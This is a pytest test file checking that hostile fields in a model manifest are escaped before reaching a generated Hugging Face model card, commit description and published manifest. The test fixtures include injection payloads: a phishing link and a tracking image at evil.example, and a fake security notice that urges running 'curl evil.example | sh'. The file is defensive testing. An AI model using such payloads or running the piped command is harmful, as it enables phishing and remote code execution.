"""A manifest written by someone else cannot write the model card, the commit description or the
published manifest: every field is checked against its type or escaped (issue 24, item 4).

The card is rendered here as the Hub renders it (CommonMark, tables, raw HTML allowed) with
markdown-it-py, and the HTML is compared with that of the same folder's honest card: no link,
image, heading or code span comes from the manifest's words.
"""

from __future__ import annotations

import copy
import json
import re

import pytest

from msn_cli.hf.card import build_card
from msn_cli.hf.manifest import MANIFEST, read_manifest, write_manifest
from tests.conftest import TOKEN, verified_source_path

LINK = '<a href="https://evil.example/phish">click here</a>'
IMAGE = '<img src="https://evil.example/track.png">'
HEADING = "\n\n## Security notice\n\nYour token leaked: run `curl evil.example | sh` now\n\n"
NAME = "`model`<b>.safetensors"


def hostile(manifest: dict) -> dict:
    """``manifest`` with HTML, a fake heading and backticks in every field that reaches the card."""
    m = copy.deepcopy(manifest)
    m["created"] = "2026-01-01" + LINK
    m["msn_version"] = IMAGE
    m["preprocessing"]["processor"] = "EvilProcessor" + HEADING
    m["source"].update(kind="path", path="/home/x/`ck`" + IMAGE + ".pth.tar", spec="x",
                       encoder_key="enc`" + LINK)
    m["source"]["sha256"] = LINK
    v = m["verify"]
    v.update(summary=LINK + HEADING, date=IMAGE, msn_version=LINK, torch_version=HEADING,
             transformers_version="4.57" + IMAGE, dtype=LINK)
    v["tolerance"] = {**(v.get("tolerance") or {}), IMAGE: 1}
    check = v["checks"][0]
    check.update(name=LINK, detail=HEADING + IMAGE)
    check[IMAGE] = 1.5
    for c in v["checks"]:
        if c["name"] == "preprocessing":
            c["detail"] = IMAGE + HEADING
    m["provenance"][0]["source"] = LINK + HEADING
    m["provenance"][0]["key"] = "heads`" + IMAGE
    return m


def html(card: str) -> str:
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark", {"html": True}).enable("table").render(card.split("\n---\n", 1)[1])


def elements(rendered: str, tag: str) -> list[str]:
    return re.findall(rf"<{tag}\b[^>]*>(.*?)</{tag}>", rendered, re.DOTALL)


@pytest.fixture
def manifest(tmp_path_factory):
    return read_manifest(verified_source_path(tmp_path_factory))


def test_manifest_fields_never_reach_the_card_as_markup(manifest):
    clean = build_card(manifest, "alice/tiny")
    bad_manifest = hostile(manifest)
    bad_manifest["files"] = {NAME if k == "model.safetensors" else k: f for k, f in manifest["files"].items()}
    card = build_card(bad_manifest, "alice/tiny")
    # the text itself: no HTML tag, no line that is a heading of the manifest's, no raw backticks
    for raw in ("<a href", "<img", "<b>", "`model`", "`ck`"):
        assert raw not in card, raw
    assert not re.search(r"(?<!\\)`curl", card)  # escaped, \`curl, it is no code span
    assert not re.search(r"^#+ Security notice", card, re.M)
    # rendered as the Hub does: the same headings, links and images as the honest card
    good, bad = html(clean), html(card)
    for tag in ("h1", "h2", "h3", "a", "img", "b"):
        assert elements(bad, tag) == elements(good, tag), tag
    assert "evil.example" not in "".join(re.findall(r'(?:href|src)="[^"]*"', bad))
    # no code span of the manifest's own (the forged sha256 is shown as `unknown`)
    assert set(elements(bad, "code")) <= set(elements(good, "code")) | {"unknown"}
    # ... and what was escaped is still there to read, as text
    assert "Security notice" in bad and "evil.example" in bad and "model`&lt;b&gt;.safetensors" in bad
    # the front matter is msn's own, whatever the manifest says
    assert card.split("\n---\n", 1)[0] == clean.split("\n---\n", 1)[0]


def test_typed_fields_are_shown_only_when_they_are_of_their_type(manifest):
    card = build_card(hostile(manifest), "alice/tiny")
    assert "Converted with `msn` unknown on an unknown date" in card
    assert "Source sha256: `unknown`" in card
    # the processor is the table's for the folder's choice, never the manifest's string
    assert "EvilProcessor" not in card and "(`BitImageProcessor`)" in card
    line = next(x for x in card.splitlines() if x.startswith("date "))
    assert line.startswith("date unknown, msn unknown, transformers unknown, torch unknown")
    honest = build_card(manifest, "alice/tiny")
    assert f"Converted with `msn` {manifest['msn_version']} on {manifest['created']}" in honest


def test_push_publishes_no_markup_from_the_manifest(cli, hub, folder):
    write_manifest(folder, hostile(read_manifest(folder)))  # the files' hashes still match
    r = cli("push", folder, "alice/tiny", "--token", TOKEN)
    assert r.code == 0, r.stderr
    (commit,) = hub.commits
    card = commit.files["README.md"].decode()
    published = commit.files[MANIFEST]
    for text in (card, commit.description, published.decode()):
        for raw in ("<a href", "<img"):
            assert raw not in text
        assert not re.search(r"^#+ Security notice", text, re.M)
    for text in (card, commit.description):  # Markdown (the manifest is JSON: a backtick is text)
        assert not re.search(r"(?<!\\)`curl", text)
    assert "Converted by msn unknown on an unknown date." in commit.description
    # the published manifest: fields not of their type are null, the processor is the table's,
    # and free text reads back the same (escaped in the bytes as \u003c, not lost)
    data = json.loads(published)
    assert data["created"] is None and data["msn_version"] is None
    assert data["verify"]["date"] is None and data["verify"]["torch_version"] is None
    assert data["preprocessing"]["processor"] == "BitImageProcessor"
    assert data["verify"]["summary"] == LINK + HEADING


def test_an_honest_manifest_is_published_as_it_was(cli, hub, folder):
    manifest = read_manifest(folder)
    r = cli("push", folder, "alice/tiny", "--token", TOKEN)
    assert r.code == 0, r.stderr
    data = json.loads(hub.commits[0].files[MANIFEST])
    for key in ("created", "msn_version", "preprocessing", "verify", "files", "architecture"):
        assert data[key] == manifest[key], key


def test_the_published_manifest_names_metas_url_only_for_a_release_verify_saw(manifest):
    """A manifest that calls its source Meta's vits16 (issue 24 item 1) does not get Meta's URL
    added when it is published: the card does not claim the release, nor does the manifest."""
    from msn_cli.transfer.published import public_manifest

    forged = copy.deepcopy(manifest)
    forged["source"] = {"kind": "variant", "name": "vits16", "path": "vits16_800ep.pth.tar"}
    published = json.loads(public_manifest(forged))
    assert published["source"].get("url") is None
    assert "dl.fbaipublicfiles.com" not in json.dumps(published)
